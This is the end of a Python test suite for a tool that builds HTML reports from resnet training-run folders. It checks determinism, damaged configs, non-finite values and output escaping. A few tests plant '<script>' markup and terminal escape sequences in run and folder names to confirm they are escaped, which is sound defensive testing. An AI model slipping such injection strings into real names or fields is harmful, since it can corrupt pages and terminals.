            "10 completed runs of resnet18 on cifar10: 2 original, 2 with random selection and 6 with layers "
            "selected by a measure (3 thresholds, 0.7 to 1.3); 6 epochs, seeds 1 and 2; all training images, "
            "all test images, 5000 of the training images held back for validation.",
        )
        self.assert_says(text, "by validation (unbiased)")
        self.assertNotIn(report_text.NO_VALIDATION, text)
        self.assert_says(text, "run-011")
        self.assert_says(text, "and no summary.json")

    def expect_the_same_bytes_again(self, first):
        second = self.folder / "second"
        self.assertEqual(self.call(self.folder / "cells", "--out", second)[0], 0)
        files = [path.relative_to(first) for path in first.rglob("*.*")]
        self.assertGreater(len(files), 10)
        for path in files:
            self.assertEqual((first / path).read_bytes(), (second / path).read_bytes(), path)

    def test_a_damaged_run_does_not_stop_the_others(self):
        self.sweep(validation=None)
        (self.original(0.9, 9) / "config.json").write_text("{")
        code, _, errors = self.call(self.folder)
        self.assertEqual((code, errors.count("\n")), (1, 1))
        self.assertIn("config.json: cannot be read", errors)
        text = html.unescape(self.page()[0])
        self.assert_says(text, "config.json: cannot be read")
        self.assert_says(text, report_text.NO_VALIDATION)

    def test_numbers_that_are_not_finite_leave_gaps(self):
        self.expect_gaps(((1, "nan", self.FEW), (2, "-inf", self.MANY)))

    def test_originals_alone(self):
        self.original(0.9, 1, dataset="synthetic", network="resnet8")
        self.assertEqual(self.call(self.folder)[0], 0)
        self.assertEqual(len(self.page()[1].sources), 1)  # the learning rate

    def test_the_synthetic_datasets_earlier_name_is_known(self):
        self.original(0.9, 1, dataset="synthetic", network="resnet8")
        self.original(0.8, 2, dataset="made", network="resnet8")
        self.assertEqual(self.call(self.folder)[0], 0)
        text = self.page()[0]
        self.assert_says(text, "2 completed runs of resnet8 on synthetic")
        self.assertNotIn("on made", text)

    def test_many_layers_and_selections(self):
        layers = [(f"layer{n}.conv", "conv") for n in range(219)]
        for threshold in (0.7, 0.8):
            self.amplified(0.9, 1, threshold, analyzed=(2, 3, 4, 5), amplified=(3, 5), layers=layers)
        self.assertEqual(self.call(self.folder)[0], 0)
        text = self.page()[0]
        self.assert_says(text, "over all 4 selections")
        self.assert_says(text, "Of the 219 layers, one in 4 is named.")

    def test_names_are_escaped(self):
        self.original(0.9, 1, network="<b>&$\\x$", data="<script>\n\x1b[2J\u202e\ud800")
        self.assertEqual(self.call(self.folder)[0], 0)
        text, reader = self.page()
        self.assert_says(text, "&lt;b&gt;&amp;")
        self.assert_says(text, r"&lt;script&gt;\n\x1b[2J\u202e\ud800")
        self.assertFalse(reader.tags & {"b", "script"})

    def test_a_folder_that_is_no_text_is_escaped(self):
        self.original(0.9, 1)
        (self.original(0.9, 2) / "summary.json").unlink()
        strange = self.folder / os.fsdecode(b"r\xe9\x1b[2J\nx")
        (self.folder / "cells").rename(strange)
        code, printed, errors = self.call(self.folder, "--out", strange / "report")
        self.assertEqual((code, errors), (0, ""))
        self.assertIn(r"r\udce9\x1b[2J\nx/report/report.html", printed)
        self.assert_says((strange / "report" / "report.html").read_text(), r"r\udce9\x1b[2J\nx/")

    def test_what_cannot_be_written(self):
        self.original(0.9, 1)
        (self.folder / "file").write_text("")
        code, _, errors = self.call(self.folder, "--out", self.folder / "file")
        self.assertEqual((code, errors.count("\n")), (1, 1))
        self.assertIn("cannot be written", errors)


class LongTest(PageCase):
    def test_numbers_that_are_not_finite_leave_gaps(self):
        self.expect_gaps(((2, "nan", self.MANY), (2, "inf", self.FEW)))


if __name__ == "__main__":
    result = unittest.main(verbosity=1, exit=False).result
    sys.exit(1 if not result.wasSuccessful() else 77 if result.skipped else 0)
